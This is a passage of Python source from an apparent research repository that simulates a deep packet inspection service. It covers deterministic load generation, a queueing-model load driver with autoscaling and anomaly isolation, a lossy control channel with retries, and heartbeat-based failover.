        fraction = self.ramp.fraction(epoch, self.epochs)
        return max(1, int(math.ceil(self.flows * fraction)))

    def with_overrides(self, **overrides: Any) -> "LoadSpec":
        """A copy with the given fields replaced (CLI flag overlay)."""
        return replace(self, **overrides)

    def to_dict(self) -> dict[str, Any]:
        return {
            "profile_mix": self.profile_mix,
            "flows": self.flows,
            "epochs": self.epochs,
            "epoch_seconds": self.epoch_seconds,
            "seed": self.seed,
            "slo_ms": self.slo_ms,
            "rate_mbps": self.rate_mbps,
            "initial_instances": self.initial_instances,
            "max_packets_per_epoch": self.max_packets_per_epoch,
            "ramp": self.ramp.to_dict(),
        }

    @classmethod
    def from_dict(cls, payload: Mapping[str, Any]) -> "LoadSpec":
        ramp_payload = payload.get("ramp", {})
        if not isinstance(ramp_payload, Mapping):
            raise TypeError(f"ramp must be an object: {ramp_payload!r}")
        known = {
            "profile_mix": str,
            "flows": int,
            "epochs": int,
            "epoch_seconds": float,
            "seed": int,
            "slo_ms": float,
            "rate_mbps": float,
            "initial_instances": int,
            "max_packets_per_epoch": int,
        }
        kwargs: dict[str, Any] = {}
        for key, cast in known.items():
            if key in payload:
                kwargs[key] = cast(payload[key])
        return cls(ramp=RampSchedule.from_dict(ramp_payload), **kwargs)

    def save(self, path: str) -> None:
        with open(path, "w") as handle:
            json.dump(self.to_dict(), handle, indent=2, sort_keys=True)
            handle.write("\n")

    @classmethod
    def load(cls, path: str) -> "LoadSpec":
        with open(path) as handle:
            return cls.from_dict(json.load(handle))
