"""Deterministic million-flow load generation for the DPI service.

Three layers: :mod:`repro.load.profiles` (traffic profiles, ramp
schedules, the serializable :class:`LoadSpec`), :mod:`repro.load.generator`
(compact-state seeded flow generator streaming per-epoch batches), and
:mod:`repro.load.driver` (the sim-clocked driver with a deterministic
queueing model, optionally closed-loop with :mod:`repro.autoscale`).
"""

from repro.load.generator import LoadBatch, LoadGenerator
from repro.load.profiles import (
    MIXES,
    PROFILES,
    RAMP_KINDS,
    LoadSpec,
    RampSchedule,
    TrafficProfile,
    profile_vocabulary,
    resolve_mix,
)

__all__ = [
    "LoadBatch",
    "LoadGenerator",
    "LoadSpec",
    "MIXES",
    "PROFILES",
    "RAMP_KINDS",
    "RampSchedule",
    "TrafficProfile",
    "profile_vocabulary",
    "resolve_mix",
]
