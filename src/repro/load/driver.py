"""Sim-clocked streaming load driver with a deterministic queueing model.

Feeds :class:`~repro.load.generator.LoadGenerator` batches into a
standalone :class:`~repro.core.controller.DPIController` one epoch at a
time on the discrete-event simulator's clock.  Every payload really goes
through ``instance.inspect`` (matches and scan counters are genuine), but
latency/SLO accounting comes from a *modeled* per-instance service rate
(``LoadSpec.rate_mbps``) driving a fluid queue:

    latency(packet k on instance i) = (backlog_i + cumulative bytes
    through k this epoch) / rate

so p99, queue depths and SLO violations are bit-reproducible across runs —
wall-clock scan timings never feed a scaling decision or a digest.

Flow placement is deterministic too: ``flow_id`` modulo over the sorted
alive shared-instance names, with autoscaler pins (heavy-hitter isolation)
taking precedence.  Isolation is applied at *placement time*: the per-flow
byte totals of an epoch are known before any packet is placed, so the
autoscaler's :meth:`~repro.autoscale.controller.Autoscaler.isolate_now`
pins heavy hitters (and anomaly-flagged flows from the previous epoch's
verdicts) before the epoch runs — a freshly provisioned dedicated
instance serves its flow immediately instead of idling until the next
epoch.  A :class:`~repro.faults.plan.FaultPlan` can crash and restart
instances mid-ramp; dead instances' backlogs are requeued onto the first
surviving instance and the autoscaler's healing floor provisions
replacements.

With ``anomaly=True`` an :class:`~repro.anomaly.middlebox.
AnomalyDetectorMiddlebox` registers as a read-only chain consumer and is
fed every inspection result (size + match metadata, never payload
re-reads); its end-of-epoch verdicts flow into the next epoch's isolation
signals.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from repro.autoscale import (
    LOAD_OFFERED_BYTES,
    LOAD_PACKETS,
    LOAD_QUEUE_DEPTH,
    LOAD_QUEUE_LATENCY,
    LOAD_SERVED_BYTES,
    LOAD_SLO_VIOLATIONS,
    LOAD_SUPPRESSED,
    QUEUE_LATENCY_BUCKETS,
    Autoscaler,
    build_policies,
)
from repro.load.generator import SIGNATURES, LoadBatch, LoadGenerator
from repro.load.profiles import (
    CHAIN_FLOOD,
    CHAIN_LONG,
    CHAIN_WEB,
    RAMP_KINDS,
    SCENARIOS,
    LoadSpec,
    profile_vocabulary,
)

LOAD_REQUEUED_BYTES = "load_requeued_bytes_total"

#: Middlebox registrations for the load scenario: an IDS and an AV engine.
MIDDLEBOXES = ((1, "ids"), (2, "av"))

#: Middlebox id the optional anomaly detector registers under.
ANOMALY_MIDDLEBOX_ID = 3

#: Policy chains the three traffic profiles ride (paper Figure 2 idiom:
#: different traffic classes traverse different middlebox chains).
CHAIN_TYPES = {
    CHAIN_WEB: ("web", ("ids",)),
    CHAIN_FLOOD: ("flood", ("ids", "av")),
    CHAIN_LONG: ("long", ("av",)),
}


def build_load_controller(telemetry: Any = None) -> Any:
    """A standalone controller with the load scenario's middleboxes/chains."""
    from repro.core.controller import DPIController
    from repro.core.messages import AddPatternsMessage, RegisterMiddleboxMessage
    from repro.core.patterns import Pattern
    from repro.net.steering import PolicyChain

    controller = DPIController(telemetry=telemetry)
    for middlebox_id, name in MIDDLEBOXES:
        controller.handle_message(RegisterMiddleboxMessage(middlebox_id, name))
        patterns = [
            Pattern(index, data)
            for index, data in enumerate(SIGNATURES[name])
        ]
        controller.handle_message(AddPatternsMessage(middlebox_id, patterns))
    chains = {}
    for chain_id in sorted(CHAIN_TYPES):
        name, types = CHAIN_TYPES[chain_id]
        chains[name] = PolicyChain(name, types, chain_id=chain_id)
    controller.policy_chains_changed(chains)
    return controller


@dataclass
class EpochReport:
    """One epoch's accounting row (rendered by the CLI table)."""

    epoch: int
    time: float
    concurrent_flows: int
    offered_packets: int
    offered_bytes: int
    served_bytes: float
    backlog_bytes: float
    p99_latency_seconds: float
    slo_violations: int
    matches: int
    suppressed: int
    alive_instances: int
    actions: list[str] = field(default_factory=list)
    anomalous_flows: int = 0

    def to_dict(self) -> dict[str, Any]:
        return {
            "epoch": self.epoch,
            "time": self.time,
            "concurrent_flows": self.concurrent_flows,
            "offered_packets": self.offered_packets,
            "offered_bytes": self.offered_bytes,
            "served_bytes": round(self.served_bytes, 3),
            "backlog_bytes": round(self.backlog_bytes, 3),
            "p99_ms": round(self.p99_latency_seconds * 1e3, 3),
            "slo_violations": self.slo_violations,
            "matches": self.matches,
            "suppressed": self.suppressed,
            "alive_instances": self.alive_instances,
            "actions": list(self.actions),
            "anomalous_flows": self.anomalous_flows,
        }


@dataclass
class LoadRunResult:
    """Everything a load run produced, plus its determinism digest."""

    spec: LoadSpec
    autoscaled: bool
    hub: Any
    controller: Any
    autoscaler: "Autoscaler | None"
    epochs: list[EpochReport]
    digest: str
    total_packets: int
    total_bytes: int
    total_matches: int
    total_slo_violations: int
    total_suppressed: int
    served_bytes: float
    anomaly: Any = None  # the AnomalyDetectorMiddlebox, when enabled

    @property
    def peak_flows_within_slo(self) -> int:
        """Largest concurrent-flow count in an epoch that met the SLO."""
        within = [
            report.concurrent_flows
            for report in self.epochs
            if report.p99_latency_seconds <= self.spec.slo_seconds
            and report.offered_packets > 0
        ]
        return max(within) if within else 0

    @property
    def throughput_mbps(self) -> float:
        duration = self.spec.epochs * self.spec.epoch_seconds
        return self.served_bytes * 8.0 / 1e6 / duration if duration else 0.0

    @property
    def overall_p99_ms(self) -> float:
        worst = [report.p99_latency_seconds for report in self.epochs]
        return max(worst) * 1e3 if worst else 0.0

    def summary(self) -> dict[str, Any]:
        actions = []
        if self.autoscaler is not None:
            actions = [
                {
                    "time": event.time,
                    "epoch": event.epoch,
                    "action": event.action,
                    "instance": event.instance,
                    "reason": event.reason,
                }
                for event in self.autoscaler.events
            ]
        anomaly = None
        if self.anomaly is not None:
            verdicts = self.anomaly.verdicts()
            from repro.anomaly import verdict_digest

            anomaly = {
                "tracked_flows": len(self.anomaly.extractor),
                "flagged_flows": sum(1 for v in verdicts if v.anomalous),
                "verdict_digest": verdict_digest(verdicts),
            }
        return {
            "spec": self.spec.to_dict(),
            "autoscale": self.autoscaled,
            "digest": self.digest,
            "anomaly": anomaly,
            "epochs": [report.to_dict() for report in self.epochs],
            "totals": {
                "packets": self.total_packets,
                "bytes": self.total_bytes,
                "matches": self.total_matches,
                "slo_violations": self.total_slo_violations,
                "suppressed": self.total_suppressed,
                "served_bytes": round(self.served_bytes, 3),
            },
            "peak_flows_within_slo": self.peak_flows_within_slo,
            "throughput_mbps": round(self.throughput_mbps, 3),
            "overall_p99_ms": round(self.overall_p99_ms, 3),
            "actions": actions,
        }


class LoadDriver:
    """Owns one run: simulator, controller, generator, optional autoscaler."""

    def __init__(
        self,
        spec: LoadSpec,
        *,
        autoscale: bool = False,
        policy: str = "isolation",
        policies: Any = None,
        max_instances: int = 8,
        plan: Any = None,
        instance_kwargs: "dict[str, Any] | None" = None,
        anomaly: bool = False,
        anomaly_classifier: Any = None,
    ) -> None:
        from repro.net.simulator import Simulator
        from repro.telemetry import TelemetryHub

        self.spec = spec
        self.simulator = Simulator()
        self.hub = TelemetryHub.for_simulator(self.simulator, tracing=False)
        self.controller = build_load_controller(telemetry=self.hub)
        self.anomaly = None
        if anomaly or anomaly_classifier is not None:
            from repro.anomaly import AnomalyDetectorMiddlebox

            self.anomaly = AnomalyDetectorMiddlebox(
                ANOMALY_MIDDLEBOX_ID,
                "anomaly",
                classifier=anomaly_classifier,
                registry=self.hub.registry,
            )
            self.anomaly.register_with(self.controller)
        self.instance_kwargs = dict(instance_kwargs or {"kernel": "flat"})
        for index in range(spec.initial_instances):
            self.controller.instances.provision(
                f"dpi-{index + 1}", **self.instance_kwargs
            )
        self.autoscaler: "Autoscaler | None" = None
        if autoscale:
            self.autoscaler = Autoscaler(
                self.controller,
                rate_bytes_per_second=spec.rate_bytes_per_second,
                epoch_seconds=spec.epoch_seconds,
                slo_seconds=spec.slo_seconds,
                policies=(
                    policies if policies is not None else build_policies(policy)
                ),
                min_instances=spec.initial_instances,
                max_instances=max_instances,
                provision_kwargs=self.instance_kwargs,
            )
        self.generator = LoadGenerator(spec)
        self.plan = plan
        self.epochs: list[EpochReport] = []
        self._backlog: dict[str, float] = {}
        registry = self.hub.registry
        self._requeued = registry.counter(LOAD_REQUEUED_BYTES)
        self._suppressed = registry.counter(LOAD_SUPPRESSED)
        self.total_matches = 0
        self.served_bytes = 0.0
        #: Flagged (flow_key, chain_id) pairs from the previous epoch's
        #: verdicts, consumed by the next epoch's placement-time isolation.
        self._pending_anomalous: tuple = ()

    # -- faults -----------------------------------------------------------

    def _arm_plan(self) -> None:
        """Schedule instance crash/restart specs from the fault plan."""
        from repro.faults.plan import FaultKind

        if self.plan is None:
            return
        supported = (FaultKind.INSTANCE_CRASH, FaultKind.INSTANCE_RESTART)
        for fault in self.plan:
            if fault.kind not in supported:
                continue
            self.simulator.schedule_at(
                fault.at,
                self._fault_firer(fault),
                label=f"fault:{fault.kind.value}:{fault.target}",
            )

    def _fault_firer(self, fault: Any) -> "Callable[[], None]":
        def fire() -> None:
            from repro.faults.plan import FaultKind

            instance = self.controller.instances.get(fault.target)
            if instance is None:
                return
            if fault.kind is FaultKind.INSTANCE_CRASH and instance.alive:
                instance.crash()
                self.hub.record_fault(
                    fault.kind.value, fault.target, phase="inject"
                )
            elif fault.kind is FaultKind.INSTANCE_RESTART and not instance.alive:
                instance.restart()
                self.hub.record_fault(
                    fault.kind.value, fault.target, phase="recover"
                )

        return fire

    # -- placement --------------------------------------------------------

    def _shared_alive(self) -> list[str]:
        manager = self.controller.instances
        names = []
        for name, instance in manager.items():
            if instance.alive and not manager.is_dedicated(name):
                names.append(name)
        return sorted(names)

    def _place(self, flow_id: int, shared: list[str]) -> str:
        if self.autoscaler is not None:
            pinned = self.autoscaler.pins.get(flow_id)
            if pinned is not None:
                instance = self.controller.instances.get(pinned)
                if instance is not None and instance.alive:
                    return pinned
        return shared[flow_id % len(shared)]

    def _requeue_dead_backlogs(self, shared: list[str]) -> None:
        """Move dead/retired instances' backlog onto the first survivor."""
        if not shared:
            return
        orphaned = 0.0
        manager = self.controller.instances
        for name in sorted(self._backlog):
            if name in shared:
                continue
            instance = manager.get(name)
            if instance is None or not instance.alive:
                orphaned += self._backlog.pop(name)
        if orphaned > 0:
            self._backlog[shared[0]] = self._backlog.get(shared[0], 0.0) + orphaned
            self._requeued.inc(orphaned)

    # -- the epoch loop ---------------------------------------------------

    def _run_epoch(self, batch: LoadBatch) -> None:
        spec = self.spec
        registry = self.hub.registry
        rate = spec.rate_bytes_per_second
        window = spec.epoch_seconds
        slo = spec.slo_seconds
        shared = self._shared_alive()
        report = EpochReport(
            epoch=batch.epoch,
            time=self.simulator.now,
            concurrent_flows=batch.concurrent_flows,
            offered_packets=len(batch.items),
            offered_bytes=0,
            served_bytes=0.0,
            backlog_bytes=0.0,
            p99_latency_seconds=0.0,
            slo_violations=0,
            matches=0,
            suppressed=batch.suppressed,
            alive_instances=len(shared),
        )
        if batch.suppressed:
            self._suppressed.inc(batch.suppressed)
        if not shared:
            # Total outage: nothing to scan with; count everything dropped.
            self._requeued.inc(sum(len(p) for _, _, p, _ in batch.items))
            self.epochs.append(report)
            self._after_epoch(batch, report, flow_bytes={}, flow_chain={})
            return

        self._requeue_dead_backlogs(shared)

        # Per-flow byte totals are fully known before any packet is
        # placed, so isolation (heavy hitters, anomaly verdicts carried
        # over from last epoch) acts NOW: a dedicated instance provisioned
        # here serves its pinned flow in this same epoch.
        flow_bytes: dict[int, int] = {}
        flow_chain: dict[int, int] = {}
        for flow_id, chain_id, payload, _ in batch.items:
            flow_bytes[flow_id] = flow_bytes.get(flow_id, 0) + len(payload)
            if flow_id not in flow_chain:
                flow_chain[flow_id] = chain_id
        pre_events: list[Any] = []
        if self.autoscaler is not None:
            heavy_flow, heavy_share, heavy_chain = self._heavy_of(
                flow_bytes, flow_chain
            )
            pre_events = self.autoscaler.isolate_now(
                epoch=batch.epoch,
                heavy_flow=heavy_flow,
                heavy_share=heavy_share,
                heavy_chain=heavy_chain,
                anomalous_flows=self._unpinned_anomalous(),
            )

        # Deterministic placement, preserving arrival order per instance.
        arrivals: dict[str, list[tuple[int, int, bytes, bool]]] = {}
        for item in batch.items:
            name = self._place(item[0], shared)
            arrivals.setdefault(name, []).append(item)

        latencies: list[float] = []
        for name in sorted(arrivals):
            instance = self.controller.instances[name]
            offered = registry.counter(LOAD_OFFERED_BYTES, instance=name)
            packets = registry.counter(LOAD_PACKETS, instance=name)
            served_counter = registry.counter(LOAD_SERVED_BYTES, instance=name)
            violations = registry.counter(LOAD_SLO_VIOLATIONS, instance=name)
            latency_histogram = registry.histogram(
                LOAD_QUEUE_LATENCY,
                buckets=QUEUE_LATENCY_BUCKETS,
                instance=name,
            )
            cumulative = self._backlog.get(name, 0.0)
            instance_bytes = 0
            for flow_id, chain_id, payload, _ in arrivals[name]:
                output = instance.inspect(
                    payload, chain_id=chain_id, flow_key=flow_id, now=self.simulator.now
                )
                packet_matches = sum(
                    len(hits) for hits in output.matches.values()
                )
                report.matches += packet_matches
                size = len(payload)
                if self.anomaly is not None:
                    self.anomaly.observe(
                        flow_id,
                        chain_id=chain_id,
                        size=size,
                        matches=packet_matches,
                        now=self.simulator.now,
                    )
                instance_bytes += size
                cumulative += size
                latency = cumulative / rate
                latencies.append(latency)
                latency_histogram.observe(latency)
                if latency > slo:
                    report.slo_violations += 1
                    violations.inc()
            served = min(cumulative, rate * window)
            self._backlog[name] = cumulative - served
            offered.inc(instance_bytes)
            packets.inc(len(arrivals[name]))
            served_counter.inc(served)
            registry.gauge(LOAD_QUEUE_DEPTH, instance=name).set(
                self._backlog[name]
            )
            report.offered_bytes += instance_bytes
            report.served_bytes += served
            self.served_bytes += served

        report.backlog_bytes = sum(
            self._backlog.get(name, 0.0) for name in shared
        )
        if latencies:
            ordered = sorted(latencies)
            rank = max(0, int(len(ordered) * 0.99 + 0.5) - 1)
            report.p99_latency_seconds = ordered[rank]
        self.total_matches += report.matches
        self.epochs.append(report)
        self._after_epoch(
            batch, report, flow_bytes, flow_chain, pre_events=pre_events
        )

    def _heavy_of(
        self,
        flow_bytes: dict[int, int],
        flow_chain: dict[int, int],
    ) -> "tuple[int | None, float, int | None]":
        """Deterministic top flow: most bytes, lowest id wins ties."""
        total = sum(flow_bytes.values())
        if total <= 0:
            return None, 0.0, None
        heavy_flow = min(flow_bytes, key=lambda fid: (-flow_bytes[fid], fid))
        return (
            heavy_flow,
            flow_bytes[heavy_flow] / total,
            flow_chain.get(heavy_flow),
        )

    def _unpinned_anomalous(self) -> tuple:
        """Carried-over flagged flows the autoscaler has not pinned yet."""
        if self.autoscaler is None:
            return ()
        pins = self.autoscaler.pins
        return tuple(
            pair for pair in self._pending_anomalous if pair[0] not in pins
        )

    def _after_epoch(
        self,
        batch: LoadBatch,
        report: EpochReport,
        flow_bytes: dict[int, int],
        flow_chain: dict[int, int],
        pre_events: "list[Any] | None" = None,
    ) -> None:
        if self.anomaly is not None:
            verdicts = self.anomaly.verdicts()
            flagged = sorted(
                (
                    (verdict.flow_key, verdict.chain_id)
                    for verdict in verdicts
                    if verdict.anomalous
                ),
                key=repr,
            )
            report.anomalous_flows = len(flagged)
            self._pending_anomalous = tuple(flagged)
        if self.autoscaler is None:
            return
        heavy_flow, heavy_share, heavy_chain = self._heavy_of(
            flow_bytes, flow_chain
        )
        events = self.autoscaler.tick(
            epoch=batch.epoch,
            heavy_flow=heavy_flow,
            heavy_share=heavy_share,
            heavy_chain=heavy_chain,
            anomalous_flows=self._unpinned_anomalous(),
        )
        report.actions = [
            f"{event.action}:{event.instance}"
            for event in list(pre_events or []) + events
        ]
        report.alive_instances = len(self._shared_alive())

    def run(self) -> LoadRunResult:
        """Drive every epoch on the simulator clock; return the result."""
        from repro.telemetry.digest import deterministic_digest

        self._arm_plan()
        batches = self.generator.batches()
        window = self.spec.epoch_seconds

        def step() -> None:
            try:
                batch = next(batches)
            except StopIteration:
                return
            self._run_epoch(batch)
            if batch.epoch + 1 < self.spec.epochs:
                self.simulator.schedule(window, step, label="load-epoch")

        # Epoch e is accounted at its end, (e + 1) * epoch_seconds.
        self.simulator.schedule_at(window, step, label="load-epoch")
        self.simulator.run()

        totals_packets = sum(report.offered_packets for report in self.epochs)
        totals_bytes = sum(report.offered_bytes for report in self.epochs)
        return LoadRunResult(
            spec=self.spec,
            autoscaled=self.autoscaler is not None,
            hub=self.hub,
            controller=self.controller,
            autoscaler=self.autoscaler,
            epochs=self.epochs,
            digest=deterministic_digest(self.hub),
            total_packets=totals_packets,
            total_bytes=totals_bytes,
            total_matches=self.total_matches,
            total_slo_violations=sum(
                report.slo_violations for report in self.epochs
            ),
            total_suppressed=sum(report.suppressed for report in self.epochs),
            served_bytes=self.served_bytes,
            anomaly=self.anomaly,
        )


def run_load_scenario(
    spec: LoadSpec,
    *,
    autoscale: bool = False,
    policy: str = "isolation",
    policies: Any = None,
    max_instances: int = 8,
    plan: Any = None,
    instance_kwargs: "dict[str, Any] | None" = None,
    anomaly: bool = False,
    anomaly_classifier: Any = None,
    validate: bool = True,
) -> LoadRunResult:
    """Validate the spec (LOAD0xx codes), build a driver, run it."""
    if validate:
        from repro.analysis.validators import raise_on_errors, validate_load_spec

        issues = validate_load_spec(
            spec.to_dict(),
            profile_names=profile_vocabulary(),
            ramp_kinds=RAMP_KINDS,
        )
        raise_on_errors(issues)
    driver = LoadDriver(
        spec,
        autoscale=autoscale,
        policy=policy,
        policies=policies,
        max_instances=max_instances,
        plan=plan,
        instance_kwargs=instance_kwargs,
        anomaly=anomaly,
        anomaly_classifier=anomaly_classifier,
    )
    return driver.run()
