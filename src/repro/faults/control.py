"""The controller↔instance control channel, with injectable impairments.

In the paper's architecture the DPI controller talks to its service
instances over the network: heartbeats, flow-migration commands,
configuration pushes.  The repo's core modules call these as plain Python
methods, which is fine until you want to study recovery — then the control
path itself must be able to lose and delay messages.

:class:`ControlChannel` models that path on the simulator clock.  Every
:meth:`rpc` is delivered after a latency (plus any injected extra delay),
may be dropped with an injected probability (seeded RNG — same seed, same
drops), and is guarded by a timeout timer that retries with exponential
backoff per :class:`RetryPolicy` before reporting failure.  Timers are
disarmed with :meth:`~repro.net.simulator.Simulator.cancel`, so an RPC
whose reply arrives never pays for its pending timeout event.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Callable, Optional


@dataclass(frozen=True)
class RetryPolicy:
    """Exponential backoff for control RPCs.

    Attempt *n* (zero-based) that times out is retried after
    ``base_delay * multiplier ** n`` seconds, up to ``max_attempts`` total
    attempts.
    """

    base_delay: float = 0.05
    multiplier: float = 2.0
    max_attempts: int = 3

    def __post_init__(self) -> None:
        if self.base_delay <= 0:
            raise ValueError("base_delay must be positive")
        if self.multiplier < 1.0:
            raise ValueError("multiplier must be >= 1")
        if self.max_attempts < 1:
            raise ValueError("max_attempts must be >= 1")

    def backoff(self, attempt: int) -> float:
        """Delay before retrying after zero-based *attempt* timed out."""
        return self.base_delay * self.multiplier**attempt


class ControlChannel:
    """A lossy, delayable control path between controller and instances."""

    def __init__(
        self,
        simulator,
        *,
        latency: float = 0.002,
        timeout: float = 0.05,
        retry_policy: RetryPolicy | None = None,
        seed: int = 0,
        telemetry=None,
    ) -> None:
        self.simulator = simulator
        self.latency = latency
        self.timeout = timeout
        self.retry_policy = retry_policy or RetryPolicy()
        self.telemetry = telemetry
        self._rng = random.Random(seed)
        self.drop_probability = 0.0
        self.extra_delay = 0.0
        # Channel accounting, also exported as counters when telemetry is
        # attached.
        self.rpcs_sent = 0
        self.rpcs_ok = 0
        self.rpcs_failed = 0
        self.messages_dropped = 0
        self.retries = 0

    # --- impairment control (driven by the fault injector) ----------------

    def impair(
        self,
        *,
        drop_probability: float | None = None,
        extra_delay: float | None = None,
    ) -> None:
        """Apply an impairment window; fields left None are unchanged."""
        if drop_probability is not None:
            if not 0.0 <= drop_probability <= 1.0:
                raise ValueError(
                    f"drop probability out of range: {drop_probability}"
                )
            self.drop_probability = drop_probability
        if extra_delay is not None:
            if extra_delay < 0:
                raise ValueError(f"negative extra delay: {extra_delay}")
            self.extra_delay = extra_delay

    def clear_impairments(self) -> None:
        """End all impairment windows."""
        self.drop_probability = 0.0
        self.extra_delay = 0.0

    # --- internals ---------------------------------------------------------

    def _count(self, name: str, **labels: str) -> None:
        if self.telemetry is not None:
            self.telemetry.registry.counter(name, **labels).inc()

    def _delivered(self) -> bool:
        """One direction of one message survives the channel, or not."""
        if self.drop_probability <= 0.0:
            return True
        return self._rng.random() >= self.drop_probability

    # --- RPC ---------------------------------------------------------------

    def rpc(
        self,
        name: str,
        call: Callable[[], object],
        *,
        on_success: Optional[Callable[[object], None]] = None,
        on_failure: Optional[Callable[[Exception], None]] = None,
    ) -> None:
        """Issue a control RPC over the channel.

        *call* runs at the instance side once the request is delivered; its
        return value rides the reply back.  A raised exception, a dropped
        request or a dropped reply all look the same to the caller: the
        timeout fires and the RPC is retried with backoff.  After
        ``retry_policy.max_attempts`` attempts *on_failure* runs with the
        last error (a :class:`TimeoutError` if nothing was ever delivered).
        """
        self.rpcs_sent += 1
        self._count("control_rpcs_total", rpc=name)
        self._attempt(name, call, on_success, on_failure, attempt=0)

    def _attempt(
        self,
        name: str,
        call: Callable[[], object],
        on_success: Optional[Callable[[object], None]],
        on_failure: Optional[Callable[[Exception], None]],
        attempt: int,
    ) -> None:
        state = {"done": False, "error": None}

        def finish_ok(result: object) -> None:
            if state["done"]:
                return
            state["done"] = True
            self.simulator.cancel(timeout_event)
            self.rpcs_ok += 1
            self._count("control_rpcs_ok_total", rpc=name)
            if on_success is not None:
                on_success(result)

        def finish_retry_or_fail() -> None:
            if state["done"]:
                return
            state["done"] = True
            if attempt + 1 < self.retry_policy.max_attempts:
                self.retries += 1
                self._count("control_rpc_retries_total", rpc=name)
                self.simulator.schedule(
                    self.retry_policy.backoff(attempt),
                    lambda: self._attempt(
                        name, call, on_success, on_failure, attempt + 1
                    ),
                    label=f"control:retry:{name}",
                )
                return
            self.rpcs_failed += 1
            self._count("control_rpcs_failed_total", rpc=name)
            if on_failure is not None:
                error = state["error"] or TimeoutError(
                    f"control rpc {name!r} timed out after "
                    f"{self.retry_policy.max_attempts} attempts"
                )
                on_failure(error)

        def deliver_request() -> None:
            if state["done"]:
                return
            try:
                result = call()
            except Exception as error:  # noqa: BLE001 - faults are the point
                state["error"] = error
                # An exception at the far side is reported immediately (the
                # instance answered, with an error) — no reply to lose.
                self.simulator.cancel(timeout_event)
                finish_retry_or_fail()
                return
            if not self._delivered():
                self.messages_dropped += 1
                self._count("control_messages_dropped_total", leg="reply")
                return  # reply lost; timeout will fire
            self.simulator.schedule(
                self.latency + self.extra_delay,
                lambda: finish_ok(result),
                label=f"control:reply:{name}",
            )

        timeout_event = self.simulator.schedule(
            self.timeout,
            finish_retry_or_fail,
            label=f"control:timeout:{name}",
        )
        if not self._delivered():
            self.messages_dropped += 1
            self._count("control_messages_dropped_total", leg="request")
            return  # request lost; timeout will fire
        self.simulator.schedule(
            self.latency + self.extra_delay,
            deliver_request,
            label=f"control:request:{name}",
        )
