"""Failure detection and recovery: heartbeats, failover, reattachment.

Two cooperating pieces:

* :class:`HeartbeatMonitor` — the controller-side prober.  Every
  ``interval`` seconds it pings each known instance over the
  :class:`~repro.faults.control.ControlChannel`.  An instance is declared
  *down* only when an RPC fails (after the channel's own retries) **and**
  no successful ping has been seen for ``timeout`` seconds — so a control
  impairment window shorter than the heartbeat timeout never triggers a
  spurious failover.  A later successful ping declares it *up* again.

* :class:`FailoverCoordinator` — what to do about it.  When an instance
  goes down, every realized chain steered through its host is re-steered
  (:meth:`~repro.net.steering.TrafficSteeringApplication.resteer_chain`)
  to a surviving shared instance, or to a freshly provisioned one on a
  spare host, or — when no instance is reachable at all — the chain
  *degrades*: the DPI hop is dropped from the path and each middlebox
  falls back to its own legacy scanning twin
  (:meth:`~repro.middleboxes.base.MiddleboxChainFunction.degrade`).
  When the instance comes back, the original paths are reinstalled and
  the middleboxes reattach.

Dedicated MCA² engines are deliberately out of bounds: they are never
picked as failover targets (their pattern sets cover one chain only) and
never decommissioned by recovery.

Every detection and recovery action lands on the telemetry hub as a
:class:`~repro.telemetry.FaultEvent` with phase ``"detect"`` or
``"recover"`` — the chaos harness derives failover times from these.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Callable, Mapping

from repro.core.instance import DPIServiceFunction, InstanceUnavailableError

if TYPE_CHECKING:  # pragma: no cover - types only
    from repro.faults.control import ControlChannel
    from repro.net.simulator import Simulator


@dataclass(frozen=True)
class HeartbeatConfig:
    """Timing for failure detection.

    ``failover_budget`` is the acceptance bound the chaos harness checks:
    the sim-time between a crash being injected and the last affected
    chain being re-steered must not exceed it.  Detection alone takes up
    to ``timeout`` plus one control-RPC failure (its timeout times the
    retry attempts), so the budget must leave room for both.
    """

    interval: float = 0.05
    timeout: float = 0.15
    failover_budget: float = 1.0

    def __post_init__(self) -> None:
        if self.interval <= 0:
            raise ValueError("heartbeat interval must be positive")
        if self.timeout < self.interval:
            raise ValueError("heartbeat timeout must cover >= one interval")
        if self.failover_budget <= 0:
            raise ValueError("failover budget must be positive")


class HeartbeatMonitor:
    """Controller-side liveness probing over the control channel."""

    def __init__(
        self,
        simulator: "Simulator",
        control: "ControlChannel",
        instances: Mapping,
        *,
        config: HeartbeatConfig | None = None,
        telemetry=None,
        on_instance_down: Callable[[str], None] | None = None,
        on_instance_up: Callable[[str], None] | None = None,
    ) -> None:
        self.simulator = simulator
        self.control = control
        #: A *live* mapping (``controller.instances`` works as-is): the
        #: monitor probes whatever it contains at each tick, so instances
        #: provisioned after :meth:`start` are picked up automatically.
        self.instances = instances
        self.config = config or HeartbeatConfig()
        self.telemetry = telemetry
        self.on_instance_down = on_instance_down
        self.on_instance_up = on_instance_up
        self.last_seen: dict[str, float] = {}
        self.down: dict[str, bool] = {}
        self._tick_event = None
        self._running = False

    def start(self) -> None:
        """Begin probing; idempotent."""
        if self._running:
            return
        self._running = True
        self._schedule_tick()

    def stop(self) -> None:
        """Stop probing and disarm the pending tick."""
        self._running = False
        if self._tick_event is not None:
            self.simulator.cancel(self._tick_event)
            self._tick_event = None

    def is_down(self, name: str) -> bool:
        """True while *name* is considered failed."""
        return self.down.get(name, False)

    # --- probing -----------------------------------------------------------

    def _schedule_tick(self) -> None:
        self._tick_event = self.simulator.schedule(
            self.config.interval, self._tick, label="heartbeat:tick"
        )

    def _tick(self) -> None:
        if not self._running:
            return
        for name in list(self.instances):
            self._probe(name)
        self._schedule_tick()

    def _probe(self, name: str) -> None:
        instance = self.instances.get(name)
        if instance is None:
            return
        self.last_seen.setdefault(name, self.simulator.now)

        def ping() -> str:
            if not instance.alive:
                raise InstanceUnavailableError(
                    f"instance {name} missed a heartbeat"
                )
            return name

        self.control.rpc(
            f"heartbeat:{name}",
            ping,
            on_success=lambda _result: self._seen(name),
            on_failure=lambda error: self._missed(name, error),
        )

    def _seen(self, name: str) -> None:
        self.last_seen[name] = self.simulator.now
        if self.down.get(name):
            self.down[name] = False
            if self.telemetry is not None:
                self.telemetry.record_fault(
                    "heartbeat", name, phase="recover", detail="instance back"
                )
            if self.on_instance_up is not None:
                self.on_instance_up(name)

    def _missed(self, name: str, error: Exception) -> None:
        if self.down.get(name):
            return
        if name not in self.instances:
            return  # decommissioned while the RPC was in flight
        silence = self.simulator.now - self.last_seen.get(
            name, self.simulator.now
        )
        if silence < self.config.timeout:
            # A lost probe with recent proof of life: wait for the timeout
            # before declaring failure (no spurious failover on short
            # control impairment windows).
            return
